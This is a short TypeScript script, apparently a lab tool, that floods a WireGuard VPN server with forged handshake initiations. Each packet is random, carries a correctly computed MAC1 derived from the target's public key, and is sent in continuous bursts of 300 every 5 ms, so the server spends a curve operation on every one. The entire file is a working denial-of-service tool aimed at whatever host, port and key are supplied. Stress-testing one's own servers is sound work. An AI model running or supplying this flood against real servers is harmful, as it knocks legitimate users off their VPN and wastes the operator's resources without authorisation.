// Puts a WireGuard server under load: `node lab/flood.ts HOST PORT PUBLIC_KEY` sends it initiations that look right from
// outside (MAC1) and are nobody's. Each costs the server a curve operation before it sees that.
import { randomBytes } from 'node:crypto'
import { createSocket } from 'node:dgram'
import { blake2s } from '@noble/hashes/blake2.js'

const [host = '', port = '', publicKey = ''] = process.argv.slice(2)
const message = Buffer.concat([Buffer.of(1, 0, 0, 0), randomBytes(112), Buffer.alloc(32)])
const key = blake2s(Buffer.concat([Buffer.from('mac1----'), Buffer.from(publicKey, 'base64')]))
message.set(blake2s(message.subarray(0, 116), { key, dkLen: 16 }), 116)

const socket = createSocket('udp4')
socket.on('error', () => {})
socket.connect(Number(port), host, () => {
  const more = () => {
    for (let n = 0; n < 300; n += 1) socket.send(message, () => {})
    setTimeout(more, 5)
  }
  more()
})
